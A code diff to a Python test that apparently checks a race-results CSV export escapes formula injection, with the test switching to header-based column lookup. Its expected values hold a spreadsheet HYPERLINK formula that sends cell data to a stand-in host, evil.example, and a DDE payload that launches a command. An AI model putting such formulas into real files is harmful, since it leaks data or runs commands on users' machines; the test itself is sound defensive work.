@@ -172,7 +172,8 @@ def test_results_csv_opens_every_name_as_text(tmp_path: Path, dsn: str) -> None:
         pub.close()
     text = (setup.sink_dir / "results.csv").read_bytes().decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text)))
-    names = {r[1]: r[2] for r in rows[1:]}
+    col = {name: k for k, name in enumerate(rows[0])}
+    names = {r[col["id"]]: r[col["name"]] for r in rows[1:]}
     assert names == {
         "1001": '\'=HYPERLINK("http://evil.example/?leak="&A1,"Results")',
         "1002": "'+cmd|' /C calc'!A0",
@@ -187,7 +188,7 @@ def test_results_csv_opens_every_name_as_text(tmp_path: Path, dsn: str) -> None:
         assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece
     # Numbers stay numbers: rank, finish_s and distance_m are written bare.
     winner = text.split("\r\n")[1]  # (a header cell holds a lone CR)
-    assert winner.startswith('1,"1001",')
+    assert winner.startswith('1,"","1001",')  # no category: no place in one
     finish_s = json.loads((setup.sink_dir / "results.json").read_text())["racers"][0]["finish_s"]
     assert f",{finish_s}," in winner
     assert rows[1][rows[0].index("finish_s")] == str(finish_s)
